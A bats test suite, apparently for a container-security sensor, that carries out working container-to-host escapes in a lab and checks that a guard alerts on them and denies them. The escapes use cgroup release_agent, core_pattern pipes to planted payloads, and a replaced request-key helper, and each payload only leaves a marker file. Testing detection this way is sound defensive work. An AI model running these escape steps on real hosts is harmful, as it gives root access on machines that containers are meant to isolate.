#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
#
# Whole escapes: a container plants a program, the kernel starts it on the host, as root. It leaves a marker on
# this machine, and the guard refuses it.

setup()
{
	[ -z "$LAB_SKIP" ] || skip "$LAB_SKIP"
	load lib
	load needs
	need_free_audit
	need_docker
	CORE_PATTERN=$(cat /proc/sys/kernel/core_pattern)
	hierarchy_make >/dev/null
	MARKER=$LAB/marker
	rm -f "$MARKER"*
}

teardown()
{
	[ -z "$LAB_SKIP" ] || return 0
	[ -z "${CORE_PATTERN:-}" ] || echo "$CORE_PATTERN" >/proc/sys/kernel/core_pattern
	[ -z "${ALARM:-}" ] || kill "$ALARM" 2>/dev/null || true
	[ -z "${REQUEST_KEY:-}" ] || rm -f "$REQUEST_KEY"
	echo "" >"$LAB/hierarchy/release_agent" 2>/dev/null || true
	sensor_stop
	remove escape
	hierarchy_remove
	forget wcfresh wcoption wcfsmount
}

# forget NAME...: a hierarchy lives as long as it has a cgroup, also when all who mounted it are gone
forget()
{
	local name
	mkdir -p "$LAB/left"
	for name in "$@"; do
		grep -q "name=$name:" /proc/self/cgroup || continue
		mount -t cgroup -o none,name="$name" x "$LAB/left"
		echo "" >"$LAB/left/release_agent"
		rmdir "$LAB/left/x" 2>/dev/null || true
		umount "$LAB/left"
	done
}

PLANTED='Kernel Starts a Planted Helper'

# helper_guard_start MODE OPTION...: every program on this machine waits for the guard while it is armed, so whatever
# happens to the test, the sensor does not live longer than two minutes
helper_guard_start()
{
	local mode=$1
	shift
	# a busy machine must not end the watch: how fast answers are is not what is tested here
	sensor_start -o respond.mode="$mode" -o guard.deadline_ms=500 "$@"
	perl -e 'sleep 120; kill KILL => @ARGV' "$SENSOR" >/dev/null 2>&1 3>&- &
	ALARM=$!
}

exec_is_armed()
{
	local guard
	guard=$(pgrep -P "$SENSOR" -f 'watchcap guard' | head -n 1)
	[ -n "$guard" ] && grep -qs '^fanotify sdev:' "/proc/$guard/fdinfo/"*
}

# escape_make: a container that may do what an escape needs; UPPER is where the host finds its files
escape_make()
{
	container escape --cap-add SYS_ADMIN --cgroupns host -v /proc/sys/kernel:/k
	UPPER=$("${DOCKER[@]}" inspect -f '{{.GraphDriver.Data.UpperDir}}' escape)
	[ -d "$UPPER" ]
}

# payload NAME: a program in the container that marks the host it runs on
payload()
{
	in_container escape "printf '#!/bin/sh\necho \$0 >$MARKER.$1\n' >/payload.$1; /bin/busybox chmod 755 /payload.$1"
}

# the kernel starts the release_agent when the last task of a cgroup has gone
RELEASE='release() { mkdir $1/x && echo 1 >$1/x/notify_on_release && sh -c "echo \$\$ >$1/x/cgroup.procs"; }'
CRASH='sh -c "ulimit -c 0; kill -SEGV \$\$" || true'

# plant WAY: the whole escape
plant()
{
	payload "$1"
	case $1 in
	agent)
		in_container escape "$RELEASE; mkdir -p /tmp/c; mount -t cgroup -o none,name=wclab x /tmp/c
			echo $UPPER/payload.agent >/tmp/c/release_agent; release /tmp/c"
		;;
	fresh)
		in_container escape "$RELEASE; mkdir -p /tmp/f; mount -t cgroup -o none,name=wcfresh x /tmp/f
			echo $UPPER/payload.fresh >/tmp/f/release_agent; release /tmp/f"
		;;
	option)
		in_container escape "$RELEASE; mkdir -p /tmp/o
			mount -t cgroup -o none,name=wcoption,release_agent=$UPPER/payload.option x /tmp/o; release /tmp/o"
		;;
	fsmount)
		in_container escape "$RELEASE; mkdir -p /tmp/m
			opener cgroup wcfsmount $UPPER/payload.fsmount /tmp/m; release /tmp/m"
		;;
	core)
		in_container escape "echo '|$UPPER/payload.core' >/k/core_pattern; $CRASH"
		;;
	root)
		in_container escape "echo '|/proc/%P/root/payload.root' >/k/core_pattern; $CRASH"
		;;
	esac
}

unplant()
{
	echo "$CORE_PATTERN" >/proc/sys/kernel/core_pattern
	echo "" >"$LAB/hierarchy/release_agent"
	in_container escape 'for m in c f o m; do rmdir /tmp/$m/x; umount /tmp/$m; done; true' >/dev/null 2>&1
}

# bats test_tags=technique:KU1,technique:KU5,technique:KU6,rule:planted-helper
@test "observe: the whole release_agent and core_pattern escapes succeed, and are told as what they are" {
	local way
	helper_guard_start observe -o guard.exec_mark=always
	wait_until 10 exec_is_armed
	escape_make
	for way in agent core root; do
		plant "$way"
		wait_until 5 test -e "$MARKER.$way"
		expect_alert 5 "$PLANTED" ".output_fields[\"proc.exepath\"] | endswith(\"payload.$way\")"
		unplant
	done
	has_alert "$PLANTED" '.watchcap.actions == [{name: "deny", result: "not-enabled", why: "observing only"}]'
	expect_alert 5 "$ESCAPE"
	# what set the pattern is told as well as what came of it
	expect_alert 5 'Kernel Upcall Set From a Container' '.output_fields | (.["container.name"] == "escape"
		and .["fd.realpath"] == "/proc/sys/kernel/core_pattern" and (.["evt.arg.new"] | endswith("payload.core")))'
}

# bats test_tags=technique:KU1,rule:planted-helper,disguise:without-guard
@test "without the guard the process connector tells what the kernel starts, and whose it is" {
	helper_guard_start observe -o guard.exec_mark=off
	escape_make
	payload agent
	in_container escape "printf '\nsleep 3\n' >>/payload.agent; $RELEASE
		mkdir -p /tmp/c; mount -t cgroup -o none,name=wclab x /tmp/c
		echo $UPPER/payload.agent >/tmp/c/release_agent; release /tmp/c"
	wait_until 5 test -e "$MARKER.agent"
	expect_alert 5 "$PLANTED" '.watchcap.origins == ["connector"] and .output_fields["container.id"] == "host"'
	has_alert "$PLANTED" ".output_fields | (.[\"fd.container.id\"] == \"$(container_id escape | cut -c1-12)\" and .[\"fd.origin\"] == \"root\")"
	unplant
}

# released PATH: the kernel starts it, for a cgroup of the host's has emptied
released()
{
	echo "$1" >"$LAB/hierarchy/release_agent"
	mkdir "$LAB/hierarchy/r"
	echo 1 >"$LAB/hierarchy/r/notify_on_release"
	sh -c "echo \$\$ >$LAB/hierarchy/r/cgroup.procs"
	wait_until 5 sh -c "! grep -q . $LAB/hierarchy/r/cgroup.procs"
	wait_until 5 rmdir "$LAB/hierarchy/r"
}

# bats test_tags=technique:KU1,rule:planted-helper
@test "of a planted helper it is told where it lies: in a container's root, in its volume, on the host" {
	helper_guard_start observe -o guard.exec_mark=always
	wait_until 10 exec_is_armed
	mkdir "$LAB/volume"
	container escape -v "$LAB/volume:/volume"
	UPPER=$("${DOCKER[@]}" inspect -f '{{.GraphDriver.Data.UpperDir}}' escape)
	payload root
	payload volume
	in_container escape 'mv /payload.volume /volume/payload'
	printf '#!/bin/sh\necho ran >%s.host\n' "$MARKER" >"$LAB/payload.host"
	chmod 755 "$LAB/payload.host"
	local at=("$UPPER/payload.root" "$LAB/volume/payload" "$LAB/payload.host") origin=(root volume host) i
	for i in 0 1 2; do
		released "${at[$i]}"
		expect_alert 5 "$PLANTED" ".output_fields | (.[\"proc.exepath\"] == \"${at[$i]}\" and .[\"fd.origin\"] == \"${origin[$i]}\"
			and (.[\"fd.container.id\"] == null) == ($i == 2))"
	done
	rm -rf "$LAB/volume" "$LAB/payload.host"
}

# bats test_tags=technique:KU2,technique:KU3,technique:KU5,technique:KU6,rule:planted-helper,refused
@test "enforce: with guard.exec_mark = always no planted helper ever runs, whatever planted it; a known one does" {
	local way
	# what was set before the sensor came may be started
	printf '#!/bin/sh\necho ran >%s\n' "$MARKER.known" >"$LAB/known"
	chmod 755 "$LAB/known"
	echo "$LAB/known" >"$LAB/hierarchy/release_agent"
	helper_guard_start enforce -o guard.exec_mark=always
	wait_until 10 exec_is_armed
	mkdir "$LAB/hierarchy/k"
	echo 1 >"$LAB/hierarchy/k/notify_on_release"
	sh -c "echo \$\$ >$LAB/hierarchy/k/cgroup.procs"
	wait_until 5 test -e "$MARKER.known"
	rmdir "$LAB/hierarchy/k"
	escape_make
	for way in fresh option fsmount core root; do
		plant "$way"
		expect_alert 5 "$PLANTED" "(.output_fields[\"proc.exepath\"] | endswith(\"payload.$way\"))
			and .watchcap.actions == [{name: \"deny\", result: \"done\"}]"
		[ ! -e "$MARKER.$way" ]
		unplant
	done
	# of a hierarchy that was there the file itself cannot be written
	run plant agent
	[[ "$output" == *"not permitted"* ]]
	[ ! -e "$MARKER.agent" ]
	[ "$(ls "$MARKER".*)" = "$MARKER.known" ]
	# everybody else runs what he likes
	in_container escape '/bin/busybox true'
}

# bats test_tags=technique:KU6,rule:planted-helper,rule:kernel-upcall-set,refused,disguise:plain-runc
@test "enforce: a core_pattern that a plain runc container sets is told, and its payload never runs" {
	local bundle=$BATS_TEST_TMPDIR/bundle
	helper_guard_start enforce -o guard.exec_mark=always
	wait_until 10 exec_is_armed
	# a procfs is watched once it has been seen
	bundle_make "$bundle" CAP_SYS_ADMIN /bin/sh -c \
		"sleep 2; echo '|$LAB/rootfs/payload.runc' >/proc/sys/kernel/core_pattern; $CRASH"
	jq 'del(.linux.readonlyPaths)' "$bundle/config.json" >"$bundle/config.new"
	mv "$bundle/config.new" "$bundle/config.json"
	printf '#!/bin/sh\necho $0 >%s.runc\n' "$MARKER" >"$LAB/rootfs/payload.runc"
	chmod 755 "$LAB/rootfs/payload.runc"
	timeout 30 runc --root "$LAB/runc" run --bundle "$bundle" wclab-core
	rm "$LAB/rootfs/payload.runc"
	expect_alert 5 "$PLANTED" '(.output_fields["proc.exepath"] | endswith("payload.runc"))
		and .watchcap.actions == [{name: "deny", result: "done"}]'
	expect_alert 5 'Kernel Upcall Set From a Container' '.output_fields["container.id"] == "wclab-core"'
	[ ! -e "$MARKER.runc" ]
}

# bats test_tags=technique:KU6,rule:planted-helper,refused
@test "armed: programs are watched only once a hierarchy has appeared" {
	helper_guard_start enforce
	escape_make
	run exec_is_armed
	[ "$status" -ne 0 ]
	in_container escape 'mkdir -p /tmp/f; mount -t cgroup -o none,name=wcfresh x /tmp/f'
	wait_until 10 exec_is_armed
	plant core
	expect_alert 5 "$PLANTED" '.watchcap.actions == [{name: "deny", result: "done"}]'
	[ ! -e "$MARKER.core" ]
	unplant
}

# bats test_tags=technique:KU13,rule:planted-helper,refused,needs:no-request-key
@test "enforce: a program planted where the kernel looks for its helper for keys never runs" {
	need no-request-key
	helper_guard_start enforce -o guard.exec_mark=always
	wait_until 10 exec_is_armed
	REQUEST_KEY=/sbin/request-key
	container escape -v /sbin:/host-sbin
	in_container escape "printf '#!/bin/sh\necho ran >$MARKER.key\n' >/host-sbin/request-key; /bin/busybox chmod 755 /host-sbin/request-key"
	run in_container escape 'caller upcall'
	expect_alert 5 "$PLANTED" '(.output_fields["proc.exepath"] | endswith("request-key"))
		and .watchcap.actions == [{name: "deny", result: "done"}]'
	[ ! -e "$MARKER.key" ]
}

# key_helper FILE NAME: a program for keys that leaves a marker
key_helper()
{
	printf '#!/bin/sh\necho ran >%s\n' "$MARKER.$2" >"$1"
	chmod 755 "$1"
}

# a container's own takes its place, and is not started
container_replaces_key_helper()
{
	key_helper "$LAB/planted" container
	in_container escape "echo '$(cat "$LAB/planted")' >/host-sbin/request-key.new; /bin/busybox chmod 755 /host-sbin/request-key.new
		mv /host-sbin/request-key.new /host-sbin/request-key"
	expect_alert 5 'Container Changes a File of the Host' '.output_fields["fd.host_class"] == "helper"'
	sleep 2
	in_container escape 'caller upcall' || true
	expect_alert 5 "$PLANTED" '(.output_fields["proc.exepath"] | endswith("request-key"))
		and .watchcap.actions == [{name: "deny", result: "done"}]'
	[ ! -e "$MARKER.container" ]
}

# bats test_tags=technique:KU13,rule:planted-helper,rule:host-file-changed,refused,disguise:known-helper-replaced,needs:no-request-key
@test "enforce: a known helper that the host replaces is still known, one that a container replaces is not" {
	need no-request-key
	REQUEST_KEY=/sbin/request-key
	key_helper $REQUEST_KEY first
	helper_guard_start enforce -o guard.exec_mark=always
	wait_until 10 exec_is_armed
	container escape -v /sbin:/host-sbin
	# as a package does
	key_helper $REQUEST_KEY.new host
	mv $REQUEST_KEY.new $REQUEST_KEY
	sleep 2
	in_container escape 'caller upcall' || true
	wait_until 5 test -e "$MARKER.host"
	container_replaces_key_helper
}

# as modprobe is to kmod: nothing happens to the file
# bats test_tags=technique:KU13,rule:planted-helper,rule:host-file-changed,refused,disguise:link-of-known-helper-replaced,needs:no-request-key
@test "enforce: nor is one known any more that was a link, which a container replaces" {
	need no-request-key
	REQUEST_KEY=/sbin/request-key
	key_helper "$LAB/known" first
	ln -s "$LAB/known" $REQUEST_KEY
	helper_guard_start enforce -o guard.exec_mark=always
	wait_until 10 exec_is_armed
	container escape -v /sbin:/host-sbin
	container_replaces_key_helper
}
